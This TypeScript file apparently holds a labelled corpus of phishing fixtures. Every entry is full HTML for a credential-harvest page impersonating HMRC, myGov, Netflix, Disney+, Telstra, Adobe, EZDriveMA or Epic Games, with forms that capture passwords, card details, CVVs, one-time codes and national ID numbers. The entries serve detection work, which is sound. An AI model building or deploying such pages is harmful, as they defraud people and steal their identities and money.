import { htmlRoute, type Entry } from '../entry.js';
import { baseCss, cookieBanner, doc, fontsHead, siteFooter, siteNav, svgLogo } from '../parts/d-parts.js';

/** Credential-harvest kits (English-language brands): couriers, government, telcos, streaming, SaaS, gaming. Written for corpus/d. */
export const entries: Entry[] = [

{
  id: 'd-kit-hmrc-tax-refund',
  label: 'phishing',
  kind: 'gov-refund-kit',
  url: 'https://hmrc-refund.tax-claim-service-gb.com/claim/start',
  body: doc({
    title: 'Claim your tax refund - GOV.UK',
    css: `body{font-family:"GDS Transport",arial,sans-serif;margin:0;color:#0b0c0c}.govuk-header{background:#0b0c0c;color:#fff;padding:10px 0;border-bottom:10px solid #1d70b8}.govuk-width-container{max-width:960px;margin:0 15px}@media(min-width:1020px){.govuk-width-container{margin:0 auto}}.govuk-header__logotype{font-weight:700;font-size:30px;color:#fff}.govuk-phase-banner{border-bottom:1px solid #b1b4b6;padding:10px 0;font-size:16px}.govuk-tag{background:#1d70b8;color:#fff;padding:2px 8px;font-weight:700}.govuk-heading-xl{font-size:48px;margin:30px 0}.govuk-label{font-weight:700;display:block;margin:20px 0 5px}.govuk-input{border:2px solid #0b0c0c;padding:5px;font-size:19px;width:100%;max-width:400px}.govuk-button{background:#00703c;color:#fff;border:0;padding:10px 15px;font-size:19px;box-shadow:0 2px 0 #002d18;margin-top:25px}.govuk-hint{color:#505a5f}.govuk-footer{background:#f3f2f1;border-top:1px solid #b1b4b6;padding:25px 0;margin-top:50px;font-size:16px}`,
    body: `<a href="#main-content" class="govuk-skip-link">Skip to main content</a>
<header class="govuk-header" role="banner"><div class="govuk-width-container"><a href="#" class="govuk-header__logotype"><svg width="36" height="32" viewBox="0 0 132 97" aria-hidden="true"><path fill="currentColor" d="M25 30.2c3.5 1.5 7.7-.2 9.1-3.7 1.5-3.6-.2-7.8-3.9-9.2-3.6-1.4-7.6.3-9.1 3.9-1.4 3.5.3 7.5 3.9 9z"/></svg> GOV.UK</a></div></header>
<div class="govuk-width-container">
<div class="govuk-phase-banner"><strong class="govuk-tag">BETA</strong> This is a new service – your feedback will help us to improve it.</div>
<main id="main-content" role="main">
<span class="govuk-hint">HM Revenue &amp; Customs</span>
<h1 class="govuk-heading-xl">Claim a tax refund</h1>
<p>After the last annual calculation of your fiscal activity we have determined that you are eligible to receive a tax refund of <strong>£428.50</strong>.</p>
<p>Please submit the tax refund request and allow us 3-5 working days in order to process it. A refund can be delayed for a variety of reasons, for example submitting invalid records or applying after the deadline.</p>
<form method="post" action="/claim/verify" novalidate>
<label class="govuk-label" for="name">Full name</label><input class="govuk-input" id="name" name="name">
<label class="govuk-label" for="dob">Date of birth</label><div class="govuk-hint">For example, 27 3 1981</div><input class="govuk-input" id="dob" name="dob">
<label class="govuk-label" for="nino">National Insurance number</label><div class="govuk-hint">It’s on your National Insurance card, benefit letter, payslip or P60. For example, ‘QQ 12 34 56 C’.</div><input class="govuk-input" id="nino" name="nino">
<label class="govuk-label" for="sort">Sort code</label><input class="govuk-input" id="sort" name="sortcode" style="max-width:140px">
<label class="govuk-label" for="acc">Account number</label><input class="govuk-input" id="acc" name="account" style="max-width:200px">
<label class="govuk-label" for="card">Debit card number (refund will be credited to this card)</label><input class="govuk-input" id="card" name="card" autocomplete="cc-number">
<label class="govuk-label" for="exp">Expiry date</label><input class="govuk-input" id="exp" name="exp" style="max-width:120px">
<label class="govuk-label" for="cvv">Security code</label><input class="govuk-input" id="cvv" name="cvv" style="max-width:90px">
<button class="govuk-button" type="submit">Submit refund request</button>
</form>
</main></div>
<footer class="govuk-footer"><div class="govuk-width-container"><a href="#">Cookies</a> · <a href="#">Accessibility statement</a> · <a href="#">Privacy</a> · <a href="#">Terms and conditions</a><p>All content is available under the Open Government Licence v3.0, except where otherwise stated</p><p>© Crown copyright</p></div></footer>`,
  }),
},

{
  id: 'd-kit-ato-mygov-refund',
  label: 'phishing',
  kind: 'gov-login-kit',
  url: 'https://my-gov-au.id-verify-portal.com/LoginServices/index.html',
  body: doc({
    title: 'myGov - Sign in',
    css: baseCss('#1c3c70') + `body{background:#f4f5f7}.mg-top{background:#1c3c70;height:80px;display:flex;align-items:center;padding:0 32px}.mg-panel{max-width:460px;margin:48px auto}.mg-panel h1{font-size:32px;color:#1c3c70}`,
    body: `<div class="mg-top"><img src="images/mygov-logo-white.svg" alt="myGov - Australian Government" height="44"></div>
<div class="mg-panel card">
  <h1>Sign in with myGov</h1>
  <p class="muted">Your Australian Taxation Office refund of $1,140.22 is ready. Sign in to confirm your bank details.</p>
  <form id="f" method="post" action="next.php">
    <div class="form-group"><label for="u">Username or email</label><input id="u" name="user" type="text" autocomplete="username"></div>
    <div class="form-group"><label for="p">Password</label><input id="p" name="pass" type="password" autocomplete="current-password"></div>
    <button class="btn btn-block" type="submit">Next</button>
    <p><a href="#">Forgot username</a> · <a href="#">Forgot password</a></p>
  </form>
  <hr><p class="muted">Or continue with <strong>myID</strong> — Australia’s Digital ID</p>
</div>
<p class="muted" style="text-align:center">myGov is a simple and secure way to access government services online.<br><a href="#">Help</a> · <a href="#">Terms of use</a> · <a href="#">Privacy</a></p>
<script>
var f=document.getElementById('f');f.addEventListener('submit',function(e){e.preventDefault();var d=new FormData(f);fetch('next.php',{method:'POST',body:d}).then(function(){location.href='bank.html?s='+Math.random().toString(36).slice(2)})});
</script>`,
  }),
  routes: {
    'my-gov-au.id-verify-portal.com/LoginServices/bank.html': htmlRoute(doc({ title: 'myGov - Confirm details', body: `<h1>Confirm your refund account</h1><form method="post" action="finish.php"><input name="bsb" placeholder="BSB"><input name="accnum" placeholder="Account number"><input name="tfn" placeholder="Tax file number"><input name="dl" placeholder="Driver licence number"><button>Confirm</button></form>` })),
  },
},

{
  id: 'd-kit-netflix-payment-hold',
  label: 'phishing',
  kind: 'streaming-card-kit',
  url: 'https://account-netflix.billing-hold-update.com/membership/payment',
  body: doc({
    title: 'Netflix',
    css: `body{background:#000 url('img/bg-collage.jpg') center/cover;color:#fff;font-family:"Netflix Sans","Helvetica Neue",Helvetica,Arial,sans-serif;margin:0}.hdr{padding:20px 48px}.hdr .logo{color:#e50914;font-size:36px;font-weight:900;letter-spacing:-1px}.panel{background:rgba(0,0,0,.75);max-width:450px;margin:0 auto 80px;padding:60px 68px;border-radius:4px}h1{font-size:32px}input{width:100%;background:#333;border:0;border-radius:4px;color:#fff;height:50px;padding:16px 20px;margin:0 0 16px;font-size:16px}button{width:100%;background:#e50914;color:#fff;border:0;border-radius:4px;height:48px;font-size:16px;font-weight:700}.small{color:#8c8c8c;font-size:13px}`,
    body: `<div class="hdr"><span class="logo" aria-label="Netflix">NETFLIX</span></div>
<div class="panel">
<h1>Update your payment method</h1>
<p>Your membership is on hold. We couldn't authorise your last payment. To keep watching, please update your payment details.</p>
<form method="post" action="process.php">
<input name="name" placeholder="Name on card" required>
<input name="card" placeholder="Card number" inputmode="numeric" required>
<input name="exp" placeholder="Expiration date (MM/YY)" required>
<input name="cvv" placeholder="Security code (CVV)" required>
<input name="zip" placeholder="Billing postcode">
<button type="submit">Update and resume membership</button>
</form>
<p class="small">Your payment information is encrypted and you can change how you pay anytime. This page is protected by Google reCAPTCHA to ensure you're not a bot.</p>
</div>
<p class="small" style="text-align:center">Questions? Call 0800 096 6379 · FAQ · Help Centre · Terms of Use · Privacy · Cookie Preferences</p>`,
  }),
},

{
  id: 'd-kit-disneyplus-otp',
  label: 'phishing',
  kind: 'streaming-card-kit',
  url: 'https://disneyplus-renew.subs-account.co/verify/otp.html',
  body: doc({
    title: 'Disney+ | Verify your payment',
    css: `body{background:linear-gradient(#1a1d29,#040714);color:#f9f9f9;font-family:Avenir-Roman,sans-serif;margin:0;min-height:100vh}.wrap{max-width:400px;margin:0 auto;padding:60px 20px;text-align:center}.otp{display:flex;gap:8px;justify-content:center;margin:24px 0}.otp input{width:44px;height:54px;text-align:center;font-size:24px;border-radius:4px;border:1px solid #555;background:#31343e;color:#fff}button{background:#0072d2;border:0;color:#fff;width:100%;height:48px;border-radius:4px;font-weight:600;letter-spacing:1.5px;text-transform:uppercase}`,
    body: `<div class="wrap"><img src="static/disney-plus-logo.png" alt="Disney+" width="140">
<h2>Enter the code we sent you</h2>
<p>Your bank has sent a one-time passcode to the phone ending in ••37 to confirm the renewal payment of <b>€10.99</b>.</p>
<form action="https://disneyplus-renew.subs-account.co/verify/otp.php" method="post" id="o"><div class="otp">${[1, 2, 3, 4, 5, 6].map((i) => `<input name="d${i}" maxlength="1" inputmode="numeric" autocomplete="one-time-code">`).join('')}</div><button>Continue</button></form>
<p style="font-size:12px;color:#cacaca;margin-top:24px">Didn't receive a code? <a href="#" style="color:#fff">Resend code</a> (available in 00:59)</p></div>
<script>document.querySelectorAll('.otp input').forEach(function(el,i,all){el.addEventListener('input',function(){if(el.value&&all[i+1])all[i+1].focus()})});</script>`,
  }),
},

{
  id: 'd-kit-telstra-bill-overdue',
  label: 'phishing',
  kind: 'telco-kit',
  url: 'https://telstra-billing.my-account-au.net/pay/overdue',
  body: doc({
    title: 'Telstra | Pay your bill',
    head: fontsHead,
    css: baseCss('#0099f8') + `.pay{max-width:520px;margin:32px auto}.amt{font-size:40px;font-weight:700;color:#d0021b}`,
    body: `${siteNav({ brand: 'Telstra', logo: svgLogo('Telstra', '#0099f8', 'square'), links: ['Mobiles', 'Internet', 'Entertainment', 'Deals', 'Support'], cta: 'My Telstra' })}
<main id="main" class="container pay">
<h1>Your account is overdue</h1>
<p>Account 3301 8842 · Bill issued 02 Nov</p>
<p class="amt">$84.10</p>
<div class="alert alert-err">Your services will be suspended within 24 hours unless the outstanding balance is paid. A reconnection fee of $65 may apply.</div>
<form class="card" method="post" action="gate.php">
<div class="form-group"><label>Cardholder name</label><input name="holder" type="text"></div>
<div class="form-group"><label>Card number</label><input name="pan" type="text" inputmode="numeric"></div>
<div class="form-group"><label>Expiry (MM/YY)</label><input name="expiry" type="text"></div>
<div class="form-group"><label>CVC</label><input name="cvc" type="text"></div>
<div class="form-group"><label>Mobile number for confirmation SMS</label><input name="mob" type="tel"></div>
<button class="btn btn-block">Pay now</button></form>
</main>
${siteFooter({ company: 'Telstra Corporation Limited ABN 33 051 775 556' })}
${cookieBanner('en')}`,
  }),
},

{
  id: 'd-kit-adobe-css-brand',
  label: 'phishing',
  kind: 'doc-share-kit-css-brand',
  url: 'https://view-file.sharedocs-cloudserve.com/pdf/viewer/Q3-remittance.html',
  body: doc({
    title: 'Document Cloud',
    css: `body{margin:0;font-family:adobe-clean,"Source Sans Pro",-apple-system,sans-serif;background:#323232}.doc-bg{position:fixed;inset:0;background:url('img/remittance-blur.jpg') center/cover;filter:blur(6px)}.modal{position:relative;z-index:2;width:420px;margin:12vh auto;background:#fff;border-radius:6px;padding:36px}.modal .mark{width:130px;height:34px;background:url('img/acr-wordmark.svg') no-repeat left center/contain}.prov{display:flex;flex-direction:column;gap:10px;margin:20px 0}.prov button{border:1px solid #ccc;background:#fff;padding:11px;border-radius:18px;font-weight:600;cursor:pointer}.hidden{display:none}input{width:100%;padding:10px;border:1px solid #bbb;border-radius:4px;margin:6px 0}.go{background:#1473e6;color:#fff;border:0;border-radius:18px;padding:10px 24px;font-weight:700}`,
    body: `<div class="doc-bg"></div>
<div class="modal"><div class="mark" role="img" aria-label=""></div>
<h2>Q3-Remittance-Advice.pdf (214 KB)</h2>
<p>To read the document, please choose your email provider below and sign in with the email address this file was shared with.</p>
<div class="prov" id="prov"><button data-p="o365">Office 365</button><button data-p="outlook">Outlook</button><button data-p="aol">AOL</button><button data-p="other">Other mail</button></div>
<form id="lf" class="hidden" method="post" action="../../auth/next.php"><input type="hidden" name="provider" id="provider"><input name="email" type="email" placeholder="Email address"><input name="password" type="password" placeholder="Password"><button class="go">View document</button></form>
</div>
<script>document.getElementById('prov').addEventListener('click',function(e){var p=e.target.getAttribute('data-p');if(!p)return;document.getElementById('provider').value=p;document.getElementById('prov').classList.add('hidden');document.getElementById('lf').classList.remove('hidden')});</script>`,
  }),
},

{
  id: 'd-kit-ezdrive-toll-unpaid',
  label: 'phishing',
  kind: 'toll-card-kit',
  url: 'https://ezdrivema.com-tollpay.top/pay',
  body: doc({
    title: 'EZDriveMA - Pay Your Toll',
    css: baseCss('#004a8f') + `body{background:#eef2f6}.tb{background:#004a8f;color:#fff;padding:16px 24px;font-weight:700;font-size:20px}.inv{max-width:520px;margin:24px auto}.row{display:flex;justify-content:space-between;border-bottom:1px dashed #ccd;padding:8px 0}`,
    body: `<div class="tb">EZDriveMA · Massachusetts Department of Transportation</div>
<div class="inv card"><h1 style="font-size:22px">Unpaid toll notice</h1>
<div class="row"><span>Invoice</span><span>MA-2026-118904</span></div><div class="row"><span>Toll amount</span><span>$4.15</span></div><div class="row"><span>Late fee (if unpaid by today)</span><span style="color:#c00">$50.00</span></div>
<p>To avoid excessive late fees and the suspension of your vehicle registration, pay the outstanding amount today.</p>
<form method="post" action="/pay/card"><div class="form-group"><label>Full name</label><input name="n"></div><div class="form-group"><label>Street address</label><input name="a"></div><div class="form-group"><label>ZIP</label><input name="z"></div><div class="form-group"><label>Card number</label><input name="c"></div><div class="form-group"><label>MM/YY</label><input name="e"></div><div class="form-group"><label>CVV</label><input name="v"></div><button class="btn btn-block">Pay $4.15</button></form></div>
<script>if(!/Mobi|Android|iPhone/i.test(navigator.userAgent)){document.body.insertAdjacentHTML('afterbegin','<p style="text-align:center;background:#ffe;padding:6px">For the best experience, open this page on your phone.</p>')}</script>`,
  }),
},

{
  id: 'd-kit-epic-games-vbucks-login',
  label: 'phishing',
  kind: 'gaming-kit',
  url: 'https://epicgames-rewards.vbucks-season-drop.com/id/login',
  body: doc({
    title: 'Sign in | Epic Games',
    css: `body{background:#121212;color:#fff;font-family:"Open Sans",Arial,sans-serif;margin:0}.e{max-width:460px;margin:50px auto;background:#202020;padding:40px;border-radius:4px;text-align:center}.e input{display:block;width:100%;background:#121212;border:1px solid #444;color:#fff;padding:14px;margin:10px 0;border-radius:4px}.e button{width:100%;background:#0078f2;border:0;color:#fff;padding:14px;border-radius:4px;font-weight:700}.gift{background:#2a2a2a;border-radius:6px;padding:12px;margin-bottom:20px}`,
    body: `<div class="e"><img src="static/epic-logo.svg" alt="Epic Games" width="50">
<div class="gift">🎁 <b>13,500 V-Bucks</b> reserved for your account — claim before the season ends</div>
<h2>Sign in with Epic Games</h2>
<form method="post" action="/id/api/login"><input name="email" type="email" placeholder="Email Address"><input name="password" type="password" placeholder="Password"><button>Sign in now</button></form>
<p style="font-size:13px;color:#aaa">Forgot your password? · Privacy policy · Don't have an Epic Games account? Sign up</p></div>`,
  }),
},

];
